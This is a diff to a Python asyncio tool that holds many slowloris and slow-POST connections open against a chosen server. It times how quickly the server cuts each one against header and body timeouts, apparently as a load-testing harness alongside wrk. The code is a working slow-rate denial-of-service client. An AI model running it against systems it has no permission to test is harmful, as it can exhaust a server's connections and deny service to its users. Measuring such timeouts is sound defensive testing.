@@ -24,68 +24,112 @@ import time
 
 # A request head that never ends: the request line, then one header value forever.
 SLOWLORIS_HEAD = b"GET / HTTP/1.1\r\nHost: slowloris\r\nX-Slow: "
-BODY_LENGTH = 1_000_000
+# A POST whose 1 MB body comes a byte at a time.
+SLOW_POST_HEAD = b"POST /upload HTTP/1.1\r\nHost: slowpost\r\nContent-Length: 1000000\r\n\r\n"
 
 
 class Attack:
-    """The attack's connections and what became of each."""
+    """The attack's connections and what became of each.
+
+    Built on asyncio's protocol callbacks rather than streams and a task per connection:
+    the attackers share CPU 1 with wrk, and every microsecond they spend there shows up in
+    wrk's latency rather than the server's.
+    """
 
     def __init__(self, args):
         self.args = args
-        self.stopping = asyncio.Event()
-        # kind -> list of (seconds from first byte to close, or None if never, answer)
+        self.loop = asyncio.get_running_loop()
+        self.stopping = False
+        self.stopped = asyncio.Event()
+        # kind -> list of (seconds from first byte to close, answer)
         self.results = collections.defaultdict(list)
         self.connect_errors = collections.Counter()
         self.open = collections.Counter()  # kind -> connections open now
+        self.connecting = 0
 
-    async def keep(self, kind, start_delay):
-        """One attack slot: a connection of `kind`, replaced whenever the server cuts it."""
-        await asyncio.sleep(start_delay)
-        while not self.stopping.is_set():
-            try:
-                reader, writer = await asyncio.wait_for(
-                    asyncio.open_connection(self.args.host, self.args.port), 10
-                )
-            except (OSError, asyncio.TimeoutError) as e:
-                self.connect_errors[type(e).__name__] += 1
-                await asyncio.sleep(0.1)
-                continue
-            self.open[kind] += 1
-            try:
-                await self.run_one(kind, reader, writer)
-            finally:
-                self.open[kind] -= 1
-                writer.close()
+    def connect(self, kind):
+        """Opens one connection of `kind`; it opens its own replacement when cut."""
+        if self.stopping:
+            return
+        self.connecting += 1
+        self.loop.create_task(self._connect(kind))
 
-    async def run_one(self, kind, reader, writer):
-        """Sends slowly until the server closes; records when and with what answer."""
-        if kind == "slowloris":
-            pieces = iter_slowloris()
-        else:
-            head = (
-                f"POST /upload HTTP/1.1\r\nHost: slowpost\r\n"
-                f"Content-Length: {BODY_LENGTH}\r\n\r\n"
-            ).encode()
-            pieces = iter_slow_post(head)
-        first_byte = time.monotonic()
-        writer.write(next(pieces))
-        closed = asyncio.ensure_future(read_until_closed(reader))
+    async def _connect(self, kind):
         try:
-            while not closed.done():
-                done, _ = await asyncio.wait({closed}, timeout=self.args.interval)
-                if done:
-                    break
-                writer.write(next(pieces))
-        except OSError:
-            pass
-        answer, closed_at = await closed
-        self.results[kind].append((closed_at - first_byte, answer))
+            await asyncio.wait_for(
+                self.loop.create_connection(
+                    lambda: SlowConnection(self, kind), self.args.host, self.args.port
+                ),
+                10,
+            )
+        except (OSError, asyncio.TimeoutError) as e:
+            self.connect_errors[type(e).__name__] += 1
+            self.loop.call_later(0.1, self.connect, kind)
+        finally:
+            self.connecting -= 1
+            if self.stopping and self.open.total() == 0 and self.connecting == 0:
+                self.stopped.set()
+
+    def closed(self, kind, seconds, answer):
+        """A connection of `kind` was cut `seconds` after its first byte: record, replace."""
+        self.open[kind] -= 1
+        self.results[kind].append((seconds, answer))
+        self.connect(kind)
+        if self.stopping and self.open.total() == 0 and self.connecting == 0:
+            self.stopped.set()
 
     async def wait_open(self, total):
         """Returns once `total` connections are open at the same time (or 30 s passed)."""
         deadline = time.monotonic() + 30
         while self.open.total() < total and time.monotonic() < deadline:
             await asyncio.sleep(0.05)
+
+
+class SlowConnection(asyncio.Protocol):
+    """One slow client: a byte (or the whole head, for a slow POST) every `interval`."""
+
+    def __init__(self, attack, kind):
+        self.attack = attack
+        self.kind = kind
+        self.pieces = iter_slowloris() if kind == "slowloris" else iter_slow_post()
+        self.received = b""
+        self.first_byte = None
+        self.timer = None
+        self.transport = None
+
+    def connection_made(self, transport):
+        self.transport = transport
+        self.attack.open[self.kind] += 1
+        self.first_byte = time.monotonic()
+        self.send_next()
+
+    def send_next(self):
+        self.transport.write(next(self.pieces))
+        self.timer = self.attack.loop.call_later(self.attack.args.interval, self.send_next)
+
+    def data_received(self, data):
+        if len(self.received) < 64:  # the status line is all we look at
+            self.received += data
+
+    def eof_received(self):
+        self.finish("closed without an answer")
+        return False  # close our side too
+
+    def connection_lost(self, exc):
+        self.finish("reset" if exc else "closed without an answer")
+
+    def finish(self, otherwise):
+        """Records the first close (EOF or reset) of this connection, once."""
+        if self.timer is None:
+            return
+        seconds = time.monotonic() - self.first_byte
+        self.timer.cancel()
+        self.timer = None
+        self.transport.close()
+        answer = otherwise
+        if self.received.startswith(b"HTTP/1."):
+            answer = self.received.split(b" ", 2)[1].decode(errors="replace")
+        self.attack.closed(self.kind, seconds, answer)
 
 
 def iter_slowloris():
@@ -96,29 +140,11 @@ def iter_slowloris():
         yield b"a"
 
 
-def iter_slow_post(head):
+def iter_slow_post():
     """The whole head, then one body byte at a time."""
-    yield head
+    yield SLOW_POST_HEAD
     while True:
         yield b"x"
-
-
-async def read_until_closed(reader):
-    """Reads until EOF or reset; returns (the status line's code or what happened, when)."""
-    received = b""
-    try:
-        while True:
-            data = await reader.read(4096)
-            if not data:
-                break
-            received += data
-    except ConnectionResetError:
-        if not received:
-            return "reset", time.monotonic()
-    closed_at = time.monotonic()
-    if received.startswith(b"HTTP/1."):
-        return received.split(b" ", 2)[1].decode(errors="replace"), closed_at
-    return "closed without an answer", closed_at
 
 
 def summarize(kind, results, deadline, still_open):
@@ -158,25 +184,25 @@ async def main():
     args = parser.parse_args()
 
     attack = Attack(args)
-    loop = asyncio.get_running_loop()
-    loop.add_signal_handler(signal.SIGTERM, attack.stopping.set)
-    loop.add_signal_handler(signal.SIGINT, attack.stopping.set)
-    slots = [("slowloris", i) for i in range(args.slowloris)]
-    slots += [("slow POST", i) for i in range(args.slow_posts)]
-    tasks = [
-        asyncio.ensure_future(attack.keep(kind, args.ramp * n / max(len(slots), 1)))
-        for n, (kind, _) in enumerate(slots)
-    ]
-    await attack.wait_open(len(slots))
+    stop = asyncio.Event()
+    attack.loop.add_signal_handler(signal.SIGTERM, stop.set)
+    attack.loop.add_signal_handler(signal.SIGINT, stop.set)
+    kinds = ["slowloris"] * args.slowloris + ["slow POST"] * args.slow_posts
+    for n, kind in enumerate(kinds):
+        attack.loop.call_later(args.ramp * n / len(kinds), attack.connect, kind)
+    await attack.wait_open(len(kinds))
     print(f"ramped: {attack.open.total()} connections open", flush=True)
-    await attack.stopping.wait()
+    await stop.wait()
 
     # No new connections now; the open ones have until their deadline + grace.
-    longest = max(args.header_timeout, args.body_timeout) + args.grace
-    _, pending = await asyncio.wait(tasks, timeout=longest)
+    attack.stopping = True
+    if attack.open.total() or attack.connecting:
+        longest = max(args.header_timeout, args.body_timeout) + args.grace
+        try:
+            await asyncio.wait_for(attack.stopped.wait(), longest)
+        except asyncio.TimeoutError:
+            pass
     still_open = dict(attack.open)
-    for task in pending:
-        task.cancel()
 
     deadlines = {"slowloris": args.header_timeout, "slow POST": args.body_timeout}
     counts = {"slowloris": args.slowloris, "slow POST": args.slow_posts}
